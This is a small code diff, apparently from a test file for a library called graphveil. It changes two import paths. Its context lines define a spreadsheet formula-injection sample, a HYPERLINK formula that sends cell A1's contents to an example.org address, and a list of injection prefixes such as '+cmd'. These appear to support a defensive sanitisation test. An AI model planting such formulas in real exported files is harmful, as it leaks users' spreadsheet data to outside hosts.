@@ -15,11 +15,11 @@ import graphveil as gv
 from forged.kit import reseal
 from graphveil import io
 from graphveil.core.errors import DataError, GraphveilWarning, InputError
-from graphveil.data.ids import alike, spelled_twice
+from graphveil.data.spellings import alike, spelled_twice
 from graphveil.io.parsed import other_than_integers, problem_of
 from graphveil.io.writing import SEPARATORS
 from graphveil.verify.database import database
-from graphveil.verify.files.canonical import no_item
+from graphveil.verify.files.item_names import no_item
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
 BEGINS = ("=1", "+cmd", "-x", "@SUM(A1)", "\t=1", "\r=1")
